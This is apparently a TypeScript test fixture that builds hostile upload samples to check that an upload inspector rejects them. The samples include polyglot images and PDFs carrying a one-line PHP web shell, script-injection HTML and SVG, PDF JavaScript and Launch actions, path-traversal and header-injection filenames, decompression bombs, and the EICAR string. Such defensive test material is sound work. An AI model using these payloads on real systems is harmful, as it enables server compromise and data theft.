import { deflateSync, gzipSync } from 'node:zlib';
import { crc32 } from '../../src/attachments/inspection/png.js';
import { benign, type SentFile } from './uploads.js';

/** A file that must not be taken, and why. */
export interface HostileFile extends SentFile {
  readonly what: string;
}

const PDF = 'application/pdf';
const PNG = 'image/png';
const JPEG = 'image/jpeg';
const WEBP = 'image/webp';
const pdf = benign('pdf-lib-plain.pdf').bytes;
const objects = benign('pdf-lib-object-streams.pdf').bytes;
const png = benign('sharp.png').bytes;
const jpeg = benign('sharp.jpg').bytes;
const webp = benign('sharp-lossy.webp').bytes;

const text = (content: string): Buffer => Buffer.from(content, 'latin1');
const join = (...parts: readonly (Buffer | string)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? text(part) : part)));
const file = (what: string, name: string, type: string, bytes: Buffer): HostileFile => ({ what, name, type, bytes });

const EICAR = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR'}-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`;
const HTML = '<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>';
const PHP = '<?php system($_GET["c"]); ?>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';

/** An archive of one stored file, as `zip -0` writes it. */
export function zipOf(name: string, content: Buffer): Buffer {
  const field = (value: number, bytes: number): Buffer => {
    const buffer = Buffer.alloc(bytes);
    buffer.writeUIntLE(value, 0, bytes);
    return buffer;
  };
  const common = [field(20, 2), field(0, 2), field(0, 2), field(0, 4), field(crc32(content), 4)];
  const sizes = [field(content.length, 4), field(content.length, 4), field(name.length, 2), field(0, 2)];
  const local = join('PK\x03\x04', ...common, ...sizes, name, content);
  const central = join(
    'PK\x01\x02',
    field(20, 2),
    ...common,
    ...sizes,
    field(0, 2),
    field(0, 2),
    field(0, 2),
    field(0, 8 - 4),
    field(0, 4),
    name,
  );
  const end = join(
    'PK\x05\x06',
    field(0, 4),
    field(1, 2),
    field(1, 2),
    field(central.length, 4),
    field(local.length, 4),
    field(0, 2),
  );
  return join(local, central, end);
}
const zip = zipOf('evil.js', text('alert(1)'));
const jar = zipOf('META-INF/MANIFEST.MF', text('Manifest-Version: 1.0\nMain-Class: Evil\n'));
const exe = join(
  'MZ',
  Buffer.alloc(60),
  'PE\0\0',
  Buffer.alloc(20),
  'This program cannot be run in DOS mode.',
  Buffer.alloc(100),
);
const elf = join('\x7fELF\x02\x01\x01\x00', Buffer.alloc(200));
const ole = join(Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(512));
const bomb = zipOf('bomb.txt', deflateSync(Buffer.alloc(5_000_000)));
const gzipBomb = gzipSync(Buffer.alloc(5_000_000));

const chunk = (type: string, data: Buffer): Buffer => {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(join(type, data)));
  return join(head, type, data, crc);
};
const IEND = chunk('IEND', Buffer.alloc(0));
/** A chunk in the place of every good one's end. */
const pngWith = (...chunks: readonly Buffer[]): Buffer => join(png.subarray(0, png.length - IEND.length), ...chunks, IEND);
const pngOfSize = (width: number, height: number): Buffer => {
  const header = Buffer.from(png.subarray(16, 29));
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  return join(png.subarray(0, 8), chunk('IHDR', header), png.subarray(33));
};
const jpegWith = (marker: number, data: Buffer): Buffer => {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(data.length + 2);
  return join(jpeg.subarray(0, 2), Buffer.from([0xff, marker]), length, data, jpeg.subarray(2));
};
const webpWith = (type: string, data: Buffer): Buffer => {
  const body = join(webp.subarray(8), type, lengthLe(data.length), data, data.length % 2 === 1 ? '\0' : '');
  return join('RIFF', lengthLe(body.length), body);
};
const lengthLe = (value: number): Buffer => {
  const length = Buffer.alloc(4);
  length.writeUInt32LE(value);
  return length;
};

/** One more object before the table of objects; no reader needs it to be in the table. */
const pdfWith = (object: string | Buffer): Buffer => {
  const at = pdf.indexOf('xref');
  return join(pdf.subarray(0, at), '99 0 obj\n', object, '\nendobj\n', pdf.subarray(at));
};
const stream = (dictionary: string, data: Buffer): Buffer =>
  join(`<<${dictionary}/Length ${data.length}>>\nstream\n`, data, '\nendstream');
const objectStream = (content: string | Buffer): Buffer =>
  stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflateSync(Buffer.from(content as string)));
const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';

const wrongTypes: readonly HostileFile[] = [
  file('a program called a PDF', 'invoice.pdf', PDF, exe),
  file('a program called a picture', 'photo.png', PNG, exe),
  file('a program of another system called a PDF', 'invoice.pdf', PDF, elf),
  file('a web page called a PDF', 'report.pdf', PDF, text(HTML)),
  file('a web page called a JPEG', 'photo.jpg', JPEG, text(HTML)),
  file('a PHP program called a PNG', 'photo.png', PNG, text(PHP)),
  file('a drawing with a program called a PNG', 'logo.png', PNG, text(SVG)),
  file('a drawing with a program under its own type', 'logo.svg', 'image/svg+xml', text(SVG)),
  file('a web page under its own type', 'page.html', 'text/html', text(HTML)),
  file('an archive called a PDF', 'scan.pdf', PDF, zip),
  file('a Java archive called a PNG', 'scan.png', PNG, jar),
  file('an old office document called a PDF', 'letter.pdf', PDF, ole),
  file('an old office document under its own type', 'letter.doc', 'application/msword', ole),
  file('a PNG called a JPEG', 'photo.jpg', JPEG, png),
  file('a JPEG called a PNG', 'photo.png', PNG, jpeg),
  file('a WebP called a JPEG', 'photo.jpg', JPEG, webp),
  file('a PDF called a WebP', 'photo.webp', WEBP, pdf),
  file('a PNG that is declared a PDF', 'photo.png', PDF, png),
  file('a PDF that is declared a web page', 'scan.pdf', 'text/html', pdf),
  file('a PDF that is declared nothing in particular', 'scan.pdf', 'application/octet-stream', pdf),
  file('a GIF', 'photo.gif', 'image/gif', text('GIF89a\x01\x00\x01\x00\x00\x00\x00;')),
  file('a GIF called a PNG', 'photo.png', PNG, text('GIF89a\x01\x00\x01\x00\x00\x00\x00;')),
  file('a text', 'notes.txt', 'text/plain', text('hello')),
  file('a text called a PDF', 'notes.pdf', PDF, text('hello')),
];

const wrongNames: readonly HostileFile[] = (
  [
    ['two endings, of which one is a program', 'invoice.exe.pdf'],
    ['two endings, of which one is a page', 'invoice.html.pdf'],
    ['two endings with spaces between', 'invoice.php      .pdf'],
    ['an ending that web servers run, behind another', 'shell.php.old.pdf'],
    ['two endings that are taken', 'photo.png.pdf'],
    ['the ending of a program last', 'invoice.pdf.exe'],
    ['no ending', 'invoice'],
    ['an ending only', '.pdf'],
    ['nothing before a hidden ending', '.htaccess.pdf'],
    ['a path upwards', '../../etc/passwd.pdf'],
    ['an absolute path', '/etc/cron.d/job.pdf'],
    ['a path of another system', 'C:\\Windows\\win.pdf'],
    ['a path upwards of another system', '..\\..\\evil.pdf'],
    ['a stream of a file', 'evil.exe:scan.pdf'],
    ['a zero', 'evil.exe\0.pdf'],
    ['a line break', 'evil\r\nSet-Cookie: a=b.pdf'],
    ['a tab', 'a\tb.pdf'],
    ['an escape for terminals', '\x1b[2Jevil.pdf'],
    ['the direction of writing turned', 'invoice\u202efdp.exe.pdf'],
    ['a character that cannot be seen', 'invoice\u200b.pdf'],
    ['a wildcard', 'all*.pdf'],
    ['a redirection', 'a>b.pdf'],
    ['a device', 'CON.pdf'],
    ['a numbered device', 'com1.pdf'],
    ['white space at its end', 'scan.pdf '],
    ['a dot at its end', 'scan.pdf.'],
    ['too many characters', `${'x'.repeat(197)}.pdf`],
    ['too many bytes', `${'証'.repeat(90)}.pdf`],
  ] as const
).map(([what, name]) => file(`a name with ${what}`, name, PDF, pdf));

const polyglots: readonly HostileFile[] = [
  file('a PDF with an archive behind it', 'scan.pdf', PDF, join(pdf, zip)),
  file('a PDF with an archive before it', 'scan.pdf', PDF, join(zip, pdf)),
  file('a PDF with an archive in a stream', 'scan.pdf', PDF, pdfWith(stream('', zip))),
  file('a PDF with a web page before it', 'scan.pdf', PDF, join(HTML, pdf)),
  file('a PDF with a web page in a comment', 'scan.pdf', PDF, join(pdf.subarray(0, 9), `%${HTML}\n`, pdf.subarray(9))),
  file('a PDF with another PDF’s end and then a program', 'scan.pdf', PDF, join(pdf, PHP)),
  file('a PNG with PHP behind it', 'photo.png', PNG, join(png, PHP)),
  file('a PNG with PHP in a text', 'photo.png', PNG, pngWith(chunk('tEXt', text(`Comment\0${PHP}`)))),
  file(
    'a PNG with PHP in its image data',
    'photo.png',
    PNG,
    join(png.subarray(0, 33), chunk('IDAT', text('x\x9c<?=$_GET[0]($_POST[1]);?>')), IEND),
  ),
  file(
    'a PNG with PHP in a compressed text',
    'photo.png',
    PNG,
    pngWith(chunk('zTXt', join('Comment\0\0', deflateSync(text(PHP))))),
  ),
  file(
    'a PNG with a web page in a compressed text',
    'photo.png',
    PNG,
    pngWith(chunk('iTXt', join('Comment\0\x01\0\0\0', deflateSync(text(HTML))))),
  ),
  file('a PNG with an archive behind it', 'photo.png', PNG, join(png, zip)),
  file('a PNG with an archive in a chunk', 'photo.png', PNG, pngWith(chunk('prVt', zip))),
  file('a JPEG with a web page behind it', 'photo.jpg', JPEG, join(jpeg, HTML)),
  file('a JPEG with a web page in a comment', 'photo.jpg', JPEG, jpegWith(0xfe, text(HTML))),
  file('a JPEG with PHP in its Exif', 'photo.jpg', JPEG, jpegWith(0xe1, join('Exif\0\0', PHP))),
  file('a JPEG with a Java archive behind it', 'photo.jpg', JPEG, join(jpeg, jar)),
  file('a JPEG with a Java archive in a comment', 'photo.jpg', JPEG, jpegWith(0xfe, jar)),
  file('a JPEG with a RAR archive behind it', 'photo.jpg', JPEG, join(jpeg, 'Rar!\x1a\x07\x00', Buffer.alloc(20))),
  file('a JPEG with a program in a part of its own', 'photo.jpg', JPEG, jpegWith(0xef, exe)),
  file('a WebP with a web page in a chunk', 'photo.webp', WEBP, webpWith('XMP ', text(HTML))),
  file('a WebP with an archive behind it', 'photo.webp', WEBP, join(webp, zip)),
  file('a WebP with an archive in a chunk', 'photo.webp', WEBP, webpWith('UNKN', zip)),
  file('a GIF that is a Java archive', 'photo.jpg', JPEG, join('GIF89a', Buffer.alloc(20), jar)),
];

const active: readonly HostileFile[] = (
  [
    ['a program', `<</OpenAction${SCRIPT}>>`],
    ['a program with its name in escapes', '<</S/J#61va#53cript/#4aS(app.alert\\(1\\))>>'],
    ['a program in an object stream', objectStream(`1 0 ${SCRIPT}`)],
    ['a program in an object stream, its name in escapes', objectStream('1 0 <</S/J#61vaScript/JS 5 0 R>>')],
    [
      'an object stream that is packed twice',
      stream('/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]', deflateSync(deflateSync(text(SCRIPT)))),
    ],
    [
      'an object stream in a packing that is not looked into',
      stream('/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode', text('3c3c>')),
    ],
    [
      'an object stream that is packed and then written in digits',
      stream(
        '/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/ASCIIHexDecode]',
        deflateSync(text(`${text(SCRIPT).toString('hex')}>`)),
      ),
    ],
    [
      'an object stream whose packing another object names',
      join(stream('/Type/ObjStm/N 1/First 4/Filter 98 0 R', deflateSync(text(SCRIPT))), '\nendobj\n98 0 obj\n/FlateDecode'),
    ],
    [
      'an object stream that is packed twice, with a remark between',
      stream('/Type/ObjStm/N 1/First 4/Filter[/FlateDecode%\n/FlateDecode]', deflateSync(deflateSync(text(SCRIPT)))),
    ],
    [
      'an object stream with the end of another one in its dictionary',
      stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode/X(endstream)', deflateSync(text(SCRIPT))),
    ],
    [
      'an object stream with another stream in its dictionary',
      stream('/Type/ObjStm/N 1/First 4/X(stream \nendstream)/Filter/FlateDecode', deflateSync(text(SCRIPT))),
    ],
    [
      'an object stream whose dictionary is longer than any',
      stream(`/Type/ObjStm/N 1/First 4/Filter/FlateDecode${' '.repeat(5_000)}`, deflateSync(text(SCRIPT))),
    ],
    ['an object stream that cannot be unpacked', stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', text('nothing'))],
    [
      'an object stream that unpacks to too much',
      stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflateSync(Buffer.alloc(20_000_000))),
    ],
    [
      'a stream that is packed twice',
      stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(Buffer.alloc(1_000_000)))),
    ],
    ['the start of a program', '<</S/Launch/F(cmd.exe)>>'],
    ['another file in it', `<</Type/Filespec/EF<</F 5 0 R>>>>\nendobj\n98 0 obj\n<</Type/EmbeddedFile>>`],
    ['a list of files in it', '<</Names<</EmbeddedFiles 5 0 R>>>>'],
    ['a form with programs', '<</AcroForm<</XFA 5 0 R>>>>'],
    ['a film', '<</Subtype/RichMedia>>'],
    ['a form that is sent', '<</S/SubmitForm/F(https://evil.example/)>>'],
    ['a password', '<</Encrypt 5 0 R>>'],
  ] as const
).map(([what, object]) => file(`a PDF with ${what}`, 'scan.pdf', PDF, pdfWith(object)));

const damaged: readonly HostileFile[] = [
  file('nothing, called a PDF', 'scan.pdf', PDF, Buffer.alloc(0)),
  file('nothing, called a PNG', 'photo.png', PNG, Buffer.alloc(0)),
  file('a PDF without its end', 'scan.pdf', PDF, pdf.subarray(0, pdf.length - 20)),
  file('half a PDF', 'scan.pdf', PDF, pdf.subarray(0, pdf.length / 2)),
  file('a header of a PDF', 'scan.pdf', PDF, text('%PDF-1.7\n')),
  file('a PDF behind white space', 'scan.pdf', PDF, join('\n\n', pdf)),
  file('a PDF that ends within objects', 'scan.pdf', PDF, objects.subarray(0, objects.indexOf('endstream') - 10)),
  file('half a PNG', 'photo.png', PNG, png.subarray(0, png.length / 2)),
  file('a PNG without its end', 'photo.png', PNG, png.subarray(0, png.length - 12)),
  file('a PNG with a changed bit', 'photo.png', PNG, flipped(png, 60)),
  file('a PNG without an image', 'photo.png', PNG, join(png.subarray(0, 33), IEND)),
  file('a PNG with a byte behind it', 'photo.png', PNG, join(png, '\0')),
  file('a PNG with something in its end', 'photo.png', PNG, join(png.subarray(0, png.length - 12), chunk('IEND', text('x')))),
  file('a PNG of more pixels than a decoder bears', 'photo.png', PNG, pngOfSize(65_535, 65_535)),
  file('a PNG without pixels', 'photo.png', PNG, pngOfSize(0, 10)),
  file(
    'a PNG with a text that unpacks to too much',
    'photo.png',
    PNG,
    pngWith(chunk('zTXt', join('Comment\0\0', deflateSync(Buffer.alloc(10_000_000))))),
  ),
  file('half a JPEG', 'photo.jpg', JPEG, jpeg.subarray(0, jpeg.length / 2)),
  file('a JPEG without its end', 'photo.jpg', JPEG, jpeg.subarray(0, jpeg.length - 2)),
  file('a JPEG with a byte behind it', 'photo.jpg', JPEG, join(jpeg, '\0')),
  file('a JPEG without an image', 'photo.jpg', JPEG, Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0x00, 0x02, 0xff, 0xd9])),
  file('half a WebP', 'photo.webp', WEBP, webp.subarray(0, webp.length / 2)),
  file('a WebP with a byte behind it', 'photo.webp', WEBP, join(webp, '\0')),
  file('a WebP that says it is longer', 'photo.webp', WEBP, join('RIFF', lengthLe(webp.length), webp.subarray(8))),
];

function flipped(bytes: Buffer, at: number): Buffer {
  const changed = Buffer.from(bytes);
  changed[at]! ^= 1;
  return changed;
}

const bombs: readonly HostileFile[] = [
  file('a bomb under its own type', 'bomb.zip', 'application/zip', bomb),
  file('a bomb called a PDF', 'bomb.pdf', PDF, bomb),
  file('a packed bomb called a PNG', 'bomb.png', PNG, gzipBomb),
  file('a packed bomb under its own type', 'bomb.gz', 'application/gzip', gzipBomb),
  file('a PDF with a bomb in a stream', 'scan.pdf', PDF, pdfWith(stream('', bomb))),
];

const eicar: readonly HostileFile[] = [
  file('EICAR under its own type', 'eicar.com', 'application/octet-stream', text(EICAR)),
  file('EICAR called a PDF', 'eicar.pdf', PDF, text(EICAR)),
  file('EICAR in a PDF', 'scan.pdf', PDF, pdfWith(stream('', text(EICAR)))),
  file('EICAR in objects of a PDF', 'scan.pdf', PDF, pdfWith(objectStream(`1 0 (${EICAR})`))),
  file('EICAR behind a PDF', 'scan.pdf', PDF, join(pdf, EICAR)),
  file('EICAR in a PNG', 'photo.png', PNG, pngWith(chunk('tEXt', text(`Comment\0${EICAR}`)))),
  file(
    'EICAR in a compressed text of a PNG',
    'photo.png',
    PNG,
    pngWith(chunk('zTXt', join('Comment\0\0', deflateSync(text(EICAR))))),
  ),
  file('EICAR in a JPEG', 'photo.jpg', JPEG, jpegWith(0xfe, text(EICAR))),
  file('EICAR in a WebP', 'photo.webp', WEBP, webpWith('EXIF', text(EICAR))),
  file('EICAR in an archive called a PDF', 'scan.pdf', PDF, zipOf('eicar.com', text(EICAR))),
];

/** Packed like a page of a PDF, where the checks of an upload do not look: only a scanner finds it, here by these bytes. */
export const PACKED_EICAR = deflateSync(text(EICAR));
export const eicarInPages = file(
  'EICAR in a page of a PDF',
  'scan.pdf',
  PDF,
  pdfWith(stream('/Filter/FlateDecode', PACKED_EICAR)),
);

/** The same makings without the harm: they are taken, so that what is refused is refused for the harm that is in it. */
export const harmlessFiles: readonly HostileFile[] = [
  file('a PDF with one more object', 'scan.pdf', PDF, pdfWith('<</S/URI/URI(https://example.org/)>>')),
  file('a PDF with one more stream', 'scan.pdf', PDF, pdfWith(stream('', text('hello')))),
  file('a PDF with a packed stream', 'scan.pdf', PDF, pdfWith(stream('/Filter/FlateDecode', deflateSync(text(SCRIPT))))),
  file('a PDF with an object stream', 'scan.pdf', PDF, pdfWith(objectStream('1 0 <</S/URI/URI(https://example.org/)>>'))),
  file('a PDF with a comment', 'scan.pdf', PDF, join(pdf.subarray(0, 9), '%hello\n', pdf.subarray(9))),
  file('a PNG with a text', 'photo.png', PNG, pngWith(chunk('tEXt', text('Comment\0hello')))),
  file('a PNG with a compressed text', 'photo.png', PNG, pngWith(chunk('zTXt', join('Comment\0\0', deflateSync(text('hello')))))),
  file(
    'a PNG with an international text',
    'photo.png',
    PNG,
    pngWith(chunk('iTXt', join('Comment\0\x01\0\0\0', deflateSync(text('hello'))))),
  ),
  file('a PNG with a private chunk', 'photo.png', PNG, pngWith(chunk('prVt', text('hello')))),
  file('a PNG of many pixels', 'photo.png', PNG, pngOfSize(10_000, 10_000)),
  file('a JPEG with a comment', 'photo.jpg', JPEG, jpegWith(0xfe, text('hello'))),
  file('a JPEG with Exif', 'photo.jpg', JPEG, jpegWith(0xe1, join('Exif\0\0', 'hello'))),
  file('a WebP with an unknown chunk', 'photo.webp', WEBP, webpWith('UNKN', text('hello'))),
];

export const hostileFiles: readonly HostileFile[] = [
  ...wrongTypes,
  ...wrongNames,
  ...polyglots,
  ...active,
  ...damaged,
  ...bombs,
  ...eicar,
];
